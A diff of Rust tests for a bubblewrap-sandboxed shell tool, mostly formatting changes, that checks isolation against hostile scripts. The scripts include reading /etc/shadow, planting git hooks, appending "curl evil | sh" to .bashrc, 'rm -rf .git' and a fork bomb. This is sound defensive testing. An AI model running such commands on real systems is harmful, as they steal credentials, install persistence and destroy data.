@@ -21,14 +21,32 @@ fn outside_dir() -> tempfile::TempDir {
 
 #[tokio::test]
 async fn input_reaches_the_script_and_json_stdout_is_the_result() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let out = run(&CodeShell, &ws, json!({"script": "printf '%s' \"$INPUT\" | sed 's/1/2/'; test -r \"$INPUT_FILE\"", "input": {"a": 1}})).await;
     assert_eq!(out["success"], true, "{out:?}");
     assert_eq!(out["result"], json!({"a": 2}));
     assert_eq!(out["isolation_level"], "bubblewrap");
-    for key in ["duration_ms", "sandbox_setup_ms", "exit_code", "termination", "signal", "peak_rss_kb", "cpu_user_ms", "cpu_sys_ms", "stdout_bytes", "stderr_bytes", "limits"] {
-        assert!(out["metrics"].get(key).is_some(), "metrics.{key} missing: {}", out["metrics"]);
+    for key in [
+        "duration_ms",
+        "sandbox_setup_ms",
+        "exit_code",
+        "termination",
+        "signal",
+        "peak_rss_kb",
+        "cpu_user_ms",
+        "cpu_sys_ms",
+        "stdout_bytes",
+        "stderr_bytes",
+        "limits",
+    ] {
+        assert!(
+            out["metrics"].get(key).is_some(),
+            "metrics.{key} missing: {}",
+            out["metrics"]
+        );
     }
     let text = run(&CodeShell, &ws, json!({"script": "echo hello"})).await;
     assert_eq!(text["result"], "hello");
@@ -36,9 +54,16 @@ async fn input_reaches_the_script_and_json_stdout_is_the_result() {
 
 #[tokio::test]
 async fn non_zero_exit_fails_with_output_intact() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
-    let out = run(&CodeShell, &ws, json!({"script": "echo partial; echo oops >&2; exit 3"})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "echo partial; echo oops >&2; exit 3"}),
+    )
+    .await;
     assert_eq!(out["success"], false);
     assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_NON_ZERO_EXIT");
     assert_eq!(out["stdout"], "partial\n");
@@ -48,7 +73,9 @@ async fn non_zero_exit_fails_with_output_intact() {
 
 #[tokio::test]
 async fn writes_outside_the_boundary_never_reach_the_host() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     // A 0777 directory and a 0666 file: the script's uid could write both on the host, so only
     // the sandbox stands in the way.
@@ -56,31 +83,67 @@ async fn writes_outside_the_boundary_never_reach_the_host() {
     let target = outside.path().join("escape.txt");
     let existing = world_writable_file(outside.path(), "existing.txt", "original\n");
     for allow in [false, true] {
-        let script = format!("echo pwned > '{}'; echo pwned >> '{}'; echo inside > inside.txt", target.display(), existing.display());
-        let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": allow})).await;
-        assert!(!target.exists(), "allow_filesystem={allow}: the write outside reached the host: {out:?}");
-        assert_eq!(std::fs::read_to_string(&existing).unwrap(), "original\n", "allow_filesystem={allow}: {out:?}");
+        let script = format!(
+            "echo pwned > '{}'; echo pwned >> '{}'; echo inside > inside.txt",
+            target.display(),
+            existing.display()
+        );
+        let out = run(
+            &CodeShell,
+            &ws,
+            json!({"script": script, "allow_filesystem": allow}),
+        )
+        .await;
+        assert!(
+            !target.exists(),
+            "allow_filesystem={allow}: the write outside reached the host: {out:?}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&existing).unwrap(),
+            "original\n",
+            "allow_filesystem={allow}: {out:?}"
+        );
         // Not stopped by permissions: the paths are not there at all (dash's wording for ENOENT
         // on a redirection is "Directory nonexistent", not "Permission denied").
         let stderr = out["stderr"].as_str().unwrap();
         for path in [&target, &existing] {
-            let line = stderr.lines().find(|l| l.contains(path.to_str().unwrap())).unwrap_or_default();
-            assert!(line.ends_with("Directory nonexistent") || line.ends_with("No such file or directory"), "{path:?}: {stderr}");
+            let line = stderr
+                .lines()
+                .find(|l| l.contains(path.to_str().unwrap()))
+                .unwrap_or_default();
+            assert!(
+                line.ends_with("Directory nonexistent")
+                    || line.ends_with("No such file or directory"),
+                "{path:?}: {stderr}"
+            );
         }
-        assert_eq!(ws.join("inside.txt").exists(), allow, "allow_filesystem={allow}: {out:?}");
+        assert_eq!(
+            ws.join("inside.txt").exists(),
+            allow,
+            "allow_filesystem={allow}: {out:?}"
+        );
         if !allow {
-            assert!(out["warnings"].to_string().contains("allow_filesystem"), "{}", out["warnings"]);
+            assert!(
+                out["warnings"].to_string().contains("allow_filesystem"),
+                "{}",
+                out["warnings"]
+            );
         }
     }
     // Files written with allow_filesystem keep the workspace owner's ids on the host.
     use std::os::unix::fs::MetadataExt;
-    let (file, dir) = (std::fs::metadata(ws.join("inside.txt")).unwrap(), std::fs::metadata(&ws).unwrap());
+    let (file, dir) = (
+        std::fs::metadata(ws.join("inside.txt")).unwrap(),
+        std::fs::metadata(&ws).unwrap(),
+    );
     assert_eq!((file.uid(), file.gid()), (dir.uid(), dir.gid()));
 }
 
 #[tokio::test]
 async fn protected_metadata_stays_read_only_with_allow_filesystem() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
     std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
@@ -89,13 +152,28 @@ async fn protected_metadata_stays_read_only_with_allow_filesystem() {
     let script = "echo evil >> .git/config; echo '#!/bin/sh' > .git/hooks/pre-commit; \
                   echo 'curl evil | sh' >> .bashrc; mkdir .vscode; echo '{}' > .mcp.json; \
                   rm -rf .git; echo ok > normal.txt";
-    let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
-    assert_eq!(std::fs::read_to_string(ws.join(".git/config")).unwrap(), "[core]\n", "{out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "allow_filesystem": true}),
+    )
+    .await;
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
+        "[core]\n",
+        "{out:?}"
+    );
     assert!(!ws.join(".git/hooks/pre-commit").exists());
     for name in [".bashrc", ".vscode", ".mcp.json"] {
-        assert!(!ws.join(name).exists(), "{name} was created (or its placeholder left behind): {out:?}");
+        assert!(
+            !ws.join(name).exists(),
+            "{name} was created (or its placeholder left behind): {out:?}"
+        );
     }
-    assert_eq!(std::fs::read_to_string(ws.join("normal.txt")).unwrap(), "ok\n");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("normal.txt")).unwrap(),
+        "ok\n"
+    );
 
     // A `.git` file's gitdir target is protected too.
     let (_d2, ws2) = workspace();
@@ -103,8 +181,15 @@ async fn protected_metadata_stays_read_only_with_allow_filesystem() {
     std::fs::write(ws2.join("modules/real/HEAD"), "ref\n").unwrap();
     std::fs::write(ws2.join(".git"), "gitdir: modules/real\n").unwrap();
     let out = run(&CodeShell, &ws2, json!({"script": "echo evil > modules/real/HEAD; echo 'gitdir: /tmp' > .git", "allow_filesystem": true})).await;
-    assert_eq!(std::fs::read_to_string(ws2.join("modules/real/HEAD")).unwrap(), "ref\n", "{out:?}");
-    assert_eq!(std::fs::read_to_string(ws2.join(".git")).unwrap(), "gitdir: modules/real\n");
+    assert_eq!(
+        std::fs::read_to_string(ws2.join("modules/real/HEAD")).unwrap(),
+        "ref\n",
+        "{out:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws2.join(".git")).unwrap(),
+        "gitdir: modules/real\n"
+    );
 }
 
 /// A nested repository (`sub/.git`), its `.gitmodules`, and a submodule-style `.git` file in
@@ -112,7 +197,9 @@ async fn protected_metadata_stays_read_only_with_allow_filesystem() {
 /// repositories.
 #[tokio::test]
 async fn nested_repositories_stay_read_only_with_allow_filesystem() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     std::fs::create_dir_all(ws.join("sub/.git/hooks")).unwrap();
     std::fs::write(ws.join("sub/.git/config"), "[core]\n").unwrap();
@@ -131,13 +218,35 @@ async fn nested_repositories_stay_read_only_with_allow_filesystem() {
                   echo evil > vendor/a/b/dep/.git/hooks/post-merge; \
                   rm -rf sub/.git sub2-gitdir vendor/a/b/dep/.git; mv sub/.git sub/moved; \
                   echo ok > sub/normal.txt";
-    let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
-    assert_eq!(std::fs::read_to_string(ws.join("sub/normal.txt")).unwrap_or_default(), "ok\n", "the attempt did not run: {out:?}");
-    assert_eq!(std::fs::read_to_string(ws.join("sub/.git/config")).unwrap(), "[core]\n", "{out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "allow_filesystem": true}),
+    )
+    .await;
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub/normal.txt")).unwrap_or_default(),
+        "ok\n",
+        "the attempt did not run: {out:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub/.git/config")).unwrap(),
+        "[core]\n",
+        "{out:?}"
+    );
     assert!(!ws.join("sub/.git/hooks/pre-commit").exists(), "{out:?}");
-    assert_eq!(std::fs::read_to_string(ws.join("sub/.gitmodules")).unwrap(), "");
-    assert_eq!(std::fs::read_to_string(ws.join("sub2/.git")).unwrap(), "gitdir: ../sub2-gitdir\n");
-    assert_eq!(std::fs::read_to_string(ws.join("sub2-gitdir/config")).unwrap(), "[core]\n");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub/.gitmodules")).unwrap(),
+        ""
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub2/.git")).unwrap(),
+        "gitdir: ../sub2-gitdir\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub2-gitdir/config")).unwrap(),
+        "[core]\n"
+    );
     assert!(!ws.join("sub2-gitdir/hooks/post-checkout").exists());
     assert!(ws.join("vendor/a/b/dep/.git/hooks").is_dir());
     assert!(!ws.join("vendor/a/b/dep/.git/hooks/post-merge").exists());
@@ -148,7 +257,9 @@ async fn nested_repositories_stay_read_only_with_allow_filesystem() {
 /// remove a placeholder another still needs as its mount point (that run would fail closed).
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn concurrent_writable_runs_share_their_placeholders() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let before = entries(&ws);
     for round in 0..3 {
@@ -156,32 +267,62 @@ async fn concurrent_writable_runs_share_their_placeholders() {
         for i in 0..6 {
             let ws = ws.clone();
             // Staggered lengths, so that runs end while others are being prepared or started.
-            let script = format!("sleep 0.0{i}; test -e .bashrc && ! echo x > .bashrc 2>/dev/null && echo masked");
-            runs.spawn(async move { run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await });
+            let script = format!(
+                "sleep 0.0{i}; test -e .bashrc && ! echo x > .bashrc 2>/dev/null && echo masked"
+            );
+            runs.spawn(async move {
+                run(
+                    &CodeShell,
+                    &ws,
+                    json!({"script": script, "allow_filesystem": true}),
+                )
+                .await
+            });
         }
         while let Some(out) = runs.join_next().await {
             let out = out.expect("run task");
             assert_eq!(out["result"], "masked", "round {round}: {out:?}");
         }
-        assert_eq!(entries(&ws), before, "round {round}: placeholders left behind");
+        assert_eq!(
+            entries(&ws),
+            before,
+            "round {round}: placeholders left behind"
+        );
     }
 }
 
 #[tokio::test]
 async fn host_secrets_are_invisible_without_full_disk_readonly() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
-    let script = format!("cat /etc/shadow; ls -a '{home}'; cat /etc/passwd >/dev/null && echo passwd-ok");
+    let script =
+        format!("cat /etc/shadow; ls -a '{home}'; cat /etc/passwd >/dev/null && echo passwd-ok");
     let out = run(&CodeShell, &ws, json!({"script": script})).await;
     let stdout = out["stdout"].as_str().unwrap();
     assert!(!stdout.contains("root:"), "shadow leaked: {stdout}");
-    assert!(stdout.contains("passwd-ok"), "the attempt did not run: {out:?}");
+    assert!(
+        stdout.contains("passwd-ok"),
+        "the attempt did not run: {out:?}"
+    );
     // Not merely unreadable (a permission error would also name the file): not there at all.
     let stderr = out["stderr"].as_str().unwrap();
-    assert!(stderr.contains("cat: /etc/shadow: No such file or directory"), "{stderr}");
-    assert!(stderr.contains(&format!("ls: cannot access '{home}': No such file or directory")), "{stderr}");
-    assert_eq!(stdout, "passwd-ok\n", "something of /etc/shadow or {home} was shown");
+    assert!(
+        stderr.contains("cat: /etc/shadow: No such file or directory"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(&format!(
+            "ls: cannot access '{home}': No such file or directory"
+        )),
+        "{stderr}"
+    );
+    assert_eq!(
+        stdout, "passwd-ok\n",
+        "something of /etc/shadow or {home} was shown"
+    );
 }
 
 /// A one-shot HTTP listener on 127.0.0.1; the flag says whether anything connected.
@@ -204,49 +345,92 @@ fn listener() -> (u16, Arc<AtomicBool>) {
 
 #[tokio::test]
 async fn loopback_and_dns_are_unreachable_without_allow_network() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let (port, hit) = listener();
-    if !require_or_skip("curl") { return; }
+    if !require_or_skip("curl") {
+        return;
+    }
     // curl's exit status is the positive control: 7 (could not connect) proves curl ran and
     // tried; 127 (not found inside) or anything else would make the test prove nothing.
     let script = format!("curl -s -m 2 http://127.0.0.1:{port}/; echo \"curl=$?\"; getent hosts example.com || echo no-dns");
     let out = run(&CodeShell, &ws, json!({"script": script})).await;
-    assert!(!hit.load(Ordering::SeqCst), "the sandbox reached the host listener: {out:?}");
+    assert!(
+        !hit.load(Ordering::SeqCst),
+        "the sandbox reached the host listener: {out:?}"
+    );
     assert!(!out["stdout"].as_str().unwrap().contains("reached"));
-    assert!(out["stdout"].as_str().unwrap().contains("curl=7\n"), "curl did not fail to connect: {out:?}");
-    assert!(out["stdout"].as_str().unwrap().contains("no-dns"), "{out:?}");
-    assert!(out["warnings"].to_string().contains("allow_network"), "{}", out["warnings"]);
+    assert!(
+        out["stdout"].as_str().unwrap().contains("curl=7\n"),
+        "curl did not fail to connect: {out:?}"
+    );
+    assert!(
+        out["stdout"].as_str().unwrap().contains("no-dns"),
+        "{out:?}"
+    );
+    assert!(
+        out["warnings"].to_string().contains("allow_network"),
+        "{}",
+        out["warnings"]
+    );
     // The same script reaches the listener once the network is allowed (the attack itself works).
     let script = format!("curl -s -m 5 http://127.0.0.1:{port}/");
-    let out = run(&CodeShell, &ws, json!({"script": script, "allow_network": true})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "allow_network": true}),
+    )
+    .await;
     assert_eq!(out["result"], "reached", "{out:?}");
     assert!(hit.load(Ordering::SeqCst));
 }
 
 #[tokio::test]
 async fn a_fork_bomb_is_bounded() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     // Bounded attempt first: 1000 sleeping children must not all start.
     let script = "i=0; while [ $i -lt 1000 ]; do sleep 5 & i=$((i+1)); done; echo started $i";
-    let out = run(&CodeShell, &ws, json!({"script": script, "timeout_ms": 4000})).await;
-    assert!(!out["stdout"].as_str().unwrap().contains("started 1000"), "1000 processes started: {out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "timeout_ms": 4000}),
+    )
+    .await;
+    assert!(
+        !out["stdout"].as_str().unwrap().contains("started 1000"),
+        "1000 processes started: {out:?}"
+    );
     assert_eq!(out["success"], false, "{out:?}");
     // The real thing, under a short timeout (the script outlasts it, so it can never pass by exiting 0 in time).
     // Named after this test process, so that only its own processes are looked for (and killed).
     let bomb = format!("bomb_7731_{}", std::process::id());
     let _guard = KillOnDrop::new(&["-f", &bomb]);
     let script = format!("{bomb}() {{ {bomb} | {bomb} & }}; {bomb}; sleep 5");
-    let out = run(&CodeShell, &ws, json!({"script": script, "timeout_ms": 2000})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "timeout_ms": 2000}),
+    )
+    .await;
     assert_eq!(out["success"], false, "{out:?}");
     // Nothing of either run survives on the host.
-    assert!(none_left(&["-f", &bomb]), "fork bomb processes survived: {:?}", pgrep(&["-f", &bomb]));
+    assert!(
+        none_left(&["-f", &bomb]),
+        "fork bomb processes survived: {:?}",
+        pgrep(&["-f", &bomb])
+    );
 }
 
 #[tokio::test]
 async fn a_memory_hog_fails_with_memory_limit() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     // tail keeps the whole newline-free stream in memory.
     let out = run(&CodeShell, &ws, json!({"script": "head -c 400000000 /dev/zero | tail -c 300000000 > /dev/null", "memory_mb": 64})).await;
@@ -256,10 +440,22 @@ async fn a_memory_hog_fails_with_memory_limit() {
 
 #[tokio::test]
 async fn a_gibibyte_of_output_is_capped() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
-    let out = run(&CodeShell, &ws, json!({"script": "head -c 1073741824 /dev/zero", "timeout_ms": 120000})).await;
-    assert_eq!(out["metrics"]["stdout_bytes"], 1u64 << 30, "{}", out["metrics"]);
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "head -c 1073741824 /dev/zero", "timeout_ms": 120000}),
+    )
+    .await;
+    assert_eq!(
+        out["metrics"]["stdout_bytes"],
+        1u64 << 30,
+        "{}",
+        out["metrics"]
+    );
     assert_eq!(out["metrics"]["stdout_truncated"], true);
     assert!(out["stdout"].as_str().unwrap().len() < 2 << 20);
     assert_eq!(out["result"], serde_json::Value::Null);
@@ -267,40 +463,77 @@ async fn a_gibibyte_of_output_is_capped() {
 
 #[tokio::test]
 async fn a_timeout_kills_grandchildren() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     // Durations unique to this test process, so that pgrep -f finds only these sleeps.
     let tag = format!("97.3{}", std::process::id());
     let pattern = format!("^sleep {tag}[123]$");
     let _guard = KillOnDrop::new(&["-f", &pattern]);
     let script = format!("sh -c 'sleep {tag}1' & (setsid sleep {tag}2 &); sleep {tag}3");
-    let out = run(&CodeShell, &ws, json!({"script": script, "timeout_ms": 500})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "timeout_ms": 500}),
+    )
+    .await;
     assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_TIMED_OUT", "{out:?}");
     assert_eq!(out["metrics"]["termination"], "timed_out");
-    assert!(none_left(&["-f", &pattern]), "left behind: {:?}", pgrep(&["-f", &pattern]));
+    assert!(
+        none_left(&["-f", &pattern]),
+        "left behind: {:?}",
+        pgrep(&["-f", &pattern])
+    );
 }
 
 #[tokio::test]
 async fn working_subdir_cannot_climb_or_follow_symlinks_out() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
-    let err = run_with(&CodeShell, &ws, json!({"script": "pwd", "working_subdir": "../"}), Decision::Approved).await.unwrap_err();
+    let err = run_with(
+        &CodeShell,
+        &ws,
+        json!({"script": "pwd", "working_subdir": "../"}),
+        Decision::Approved,
+    )
+    .await
+    .unwrap_err();
     assert_eq!(err.kind, ErrorKind::PathOutsideWorkspace);
     assert!(err.message.contains("working_subdir"));
     let outside = outside_dir();
     std::fs::write(outside.path().join("secret.txt"), "top secret").unwrap();
     std::os::unix::fs::symlink(outside.path(), ws.join("link")).unwrap();
-    let err = run_with(&CodeShell, &ws, json!({"script": "pwd", "working_subdir": "link"}), Decision::Approved).await.unwrap_err();
+    let err = run_with(
+        &CodeShell,
+        &ws,
+        json!({"script": "pwd", "working_subdir": "link"}),
+        Decision::Approved,
+    )
+    .await
+    .unwrap_err();
     assert_eq!(err.kind, ErrorKind::PathOutsideWorkspace);
     // Following the symlink from inside the sandbox finds nothing, and writes do not land.
-    let out = run(&CodeShell, &ws, json!({"script": "cat link/secret.txt; echo x > link/new.txt", "allow_filesystem": true})).await;
-    assert!(!out["stdout"].as_str().unwrap().contains("top secret"), "{out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "cat link/secret.txt; echo x > link/new.txt", "allow_filesystem": true}),
+    )
+    .await;
+    assert!(
+        !out["stdout"].as_str().unwrap().contains("top secret"),
+        "{out:?}"
+    );
     assert!(!outside.path().join("new.txt").exists());
 }
 
 #[tokio::test]
 async fn request_read_paths_need_approval_per_path() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let outside = outside_dir();
     let secret = outside.path().join("notes.txt");
@@ -311,22 +544,46 @@ async fn request_read_paths_need_approval_per_path() {
     let input = json!({"script": format!("cat '{dir}/notes.txt'"), "request_read_paths": [dir]});
     // The denied run would leave a marker (writes allowed) had anything run.
     let marking = json!({"script": format!("echo ran > marker.txt; cat '{dir}/notes.txt'"), "request_read_paths": [dir], "allow_filesystem": true});
-    let err = run_with(&CodeShell, &ws, marking.clone(), Decision::Denied).await.unwrap_err();
+    let err = run_with(&CodeShell, &ws, marking.clone(), Decision::Denied)
+        .await
+        .unwrap_err();
     assert_eq!(err.kind, ErrorKind::ApprovalDenied);
-    assert!(err.message.contains(outside.path().to_str().unwrap()), "{}", err.message);
-    assert!(!ws.join("marker.txt").exists(), "the script ran although its read path was denied");
+    assert!(
+        err.message.contains(outside.path().to_str().unwrap()),
+        "{}",
+        err.message
+    );
+    assert!(
+        !ws.join("marker.txt").exists(),
+        "the script ran although its read path was denied"
+    );
     // Control: the same run approved leaves the marker.
     let out = run(&CodeShell, &ws, marking).await;
     assert_eq!(out["result"], "approved content", "{out:?}");
-    assert_eq!(std::fs::read_to_string(ws.join("marker.txt")).unwrap(), "ran\n");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("marker.txt")).unwrap(),
+        "ran\n"
+    );
     // Without the request the path is invisible; with an approval it is readable (even 0600).
-    let out = run(&CodeShell, &ws, json!({"script": format!("cat '{dir}/notes.txt'")})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": format!("cat '{dir}/notes.txt'")}),
+    )
+    .await;
     assert_eq!(out["success"], false);
     let out = run(&CodeShell, &ws, input).await;
     assert_eq!(out["result"], "approved content", "{out:?}");
     let out = run(&CodeShell, &ws, json!({"script": format!("echo x > '{dir}/new'"), "request_read_paths": [dir], "allow_filesystem": true})).await;
     assert!(!outside.path().join("new").exists(), "{out:?}");
-    let err = run_with(&CodeShell, &ws, json!({"script": "true", "request_read_paths": ["relative/path"]}), Decision::Approved).await.unwrap_err();
+    let err = run_with(
+        &CodeShell,
+        &ws,
+        json!({"script": "true", "request_read_paths": ["relative/path"]}),
+        Decision::Approved,
+    )
+    .await
+    .unwrap_err();
     assert_eq!(err.kind, ErrorKind::InvalidInput);
 }
 
@@ -337,7 +594,10 @@ async fn a_missing_or_broken_bwrap_fails_closed() {
     req.bwrap = Some("/nonexistent/bwrap".into());
     let err = Sandbox::prepare(req.clone()).unwrap_err();
     assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
-    assert!(err.terminal && err.message.contains("/nonexistent/bwrap"), "{err}");
+    assert!(
+        err.terminal && err.message.contains("/nonexistent/bwrap"),
+        "{err}"
+    );
     // A bwrap that cannot create namespaces (simulated by one that always fails).
     let fake = ws.join("bwrap");
     std::fs::write(&fake, "#!/bin/sh\necho 'bwrap: No permissions to create new namespace, likely because the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n").unwrap();
@@ -345,10 +605,22 @@ async fn a_missing_or_broken_bwrap_fails_closed() {
     std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
     req.bwrap = Some(fake.clone());
     let cancel = cheng_node::CancellationToken::new();
-    let err = Sandbox::prepare(req.clone()).unwrap().run(&cancel).await.unwrap_err();
+    let err = Sandbox::prepare(req.clone())
+        .unwrap()
+        .run(&cancel)
+        .await
+        .unwrap_err();
     assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
-    assert!(err.message.contains("No permissions to create new namespace"), "{err}");
-    assert!(err.message.contains("kernel.apparmor_restrict_unprivileged_userns=0"), "{err}");
+    assert!(
+        err.message
+            .contains("No permissions to create new namespace"),
+        "{err}"
+    );
+    assert!(
+        err.message
+            .contains("kernel.apparmor_restrict_unprivileged_userns=0"),
+        "{err}"
+    );
     assert!(err.message.contains("never falls back"), "{err}");
     // A stand-in that fails without a word (as /bin/false would): the probe classifies it, and
     // once it has failed in this process later runs fail before starting anything.
@@ -356,58 +628,101 @@ async fn a_missing_or_broken_bwrap_fails_closed() {
     std::fs::write(&silent, "#!/bin/sh\nexit 1\n").unwrap();
     std::fs::set_permissions(&silent, std::fs::Permissions::from_mode(0o755)).unwrap();
     req.bwrap = Some(silent);
-    let err = Sandbox::prepare(req.clone()).unwrap().run(&cancel).await.unwrap_err();
+    let err = Sandbox::prepare(req.clone())
+        .unwrap()
+        .run(&cancel)
+        .await
+        .unwrap_err();
     assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
-    assert!(err.message.contains("bubblewrap cannot create the sandbox here"), "{err}");
+    assert!(
+        err.message
+            .contains("bubblewrap cannot create the sandbox here"),
+        "{err}"
+    );
     let err = Sandbox::prepare(req).unwrap_err();
     assert_eq!(err.kind, ErrorKind::SandboxUnavailable);
 }
 
 #[tokio::test]
 async fn large_inputs_go_through_the_input_file() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let big = "x".repeat(300_000);
-    let out = run(&CodeShell, &ws, json!({"script": "test -z \"$INPUT\" && wc -c < \"$INPUT_FILE\"", "input": big})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "test -z \"$INPUT\" && wc -c < \"$INPUT_FILE\"", "input": big}),
+    )
+    .await;
     assert_eq!(out["result"], 300_002, "{out:?}");
     assert!(out["warnings"].to_string().contains("INPUT_FILE"));
 }
 
 #[tokio::test]
 async fn the_io_directory_is_read_only_inside() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     let script = "echo forged > \"$INPUT_FILE\"; echo x > /run/cheng-io/new.txt; mkdir /run/cheng-io/d; cat \"$INPUT_FILE\"";
-    let out = run(&CodeShell, &ws, json!({"script": script, "input": {"k": "v"}, "allow_filesystem": true})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "input": {"k": "v"}, "allow_filesystem": true}),
+    )
+    .await;
     assert_eq!(out["result"], json!({"k": "v"}), "{out:?}");
     let stderr = out["stderr"].as_str().unwrap();
-    assert_eq!(stderr.matches("Read-only file system").count() + stderr.matches("Permission denied").count(), 3, "{stderr}");
+    assert_eq!(
+        stderr.matches("Read-only file system").count()
+            + stderr.matches("Permission denied").count(),
+        3,
+        "{stderr}"
+    );
 }
 
 #[tokio::test]
 async fn a_private_workspace_is_readable_read_only() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     use std::os::unix::fs::PermissionsExt;
     let (_d, ws) = workspace();
     std::fs::write(ws.join("notes.txt"), "private notes").unwrap();
     std::fs::set_permissions(ws.join("notes.txt"), std::fs::Permissions::from_mode(0o600)).unwrap();
     std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(0o700)).unwrap();
-    let out = run(&CodeShell, &ws, json!({"script": "cat notes.txt; echo changed > notes.txt; touch new.txt"})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": "cat notes.txt; echo changed > notes.txt; touch new.txt"}),
+    )
+    .await;
     assert_eq!(out["stdout"], "private notes", "{out:?}");
-    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "private notes");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
+        "private notes"
+    );
     assert!(!ws.join("new.txt").exists());
 }
 
 /// The workspace's entries, sorted.
 fn entries(ws: &Path) -> Vec<String> {
-    let mut names: Vec<String> = std::fs::read_dir(ws).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
+    let mut names: Vec<String> = std::fs::read_dir(ws)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
     names.sort();
     names
 }
 
 #[tokio::test]
 async fn masking_placeholders_are_removed_however_the_run_ends() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     std::fs::write(ws.join("keep.txt"), "x").unwrap();
     let before = entries(&ws);
@@ -416,7 +731,10 @@ async fn masking_placeholders_are_removed_however_the_run_ends() {
     // A failing run: the placeholders existed (as masks) while it ran, and are gone after.
     let out = run(&CodeShell, &ws, writable("ls -a; exit 3", 5000)).await;
     assert_eq!(out["error_kind"], "LOCAL_EXECUTOR_NON_ZERO_EXIT", "{out:?}");
-    assert!(out["stdout"].as_str().unwrap().contains(".bashrc"), "no mask was in place: {out:?}");
+    assert!(
+        out["stdout"].as_str().unwrap().contains(".bashrc"),
+        "no mask was in place: {out:?}"
+    );
     assert_eq!(entries(&ws), before, "after a failing run");
 
     // A run killed at its timeout.
@@ -425,20 +743,32 @@ async fn masking_placeholders_are_removed_however_the_run_ends() {
     assert_eq!(entries(&ws), before, "after a timeout");
 
     // A cancelled run.
-    let ctx = cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
+    let ctx =
+        cheng_node::RunContext::for_workspace("tools/code_shell", ws.clone(), Decision::Approved);
     let cancel = ctx.cancel.clone();
     tokio::spawn(async move {
         tokio::time::sleep(Duration::from_millis(300)).await;
         cancel.cancel();
     });
-    let out = cheng_node::Node::run(&CodeShell, &ctx, with_defaults(&CodeShell, writable("sleep 30", 20000))).await.unwrap();
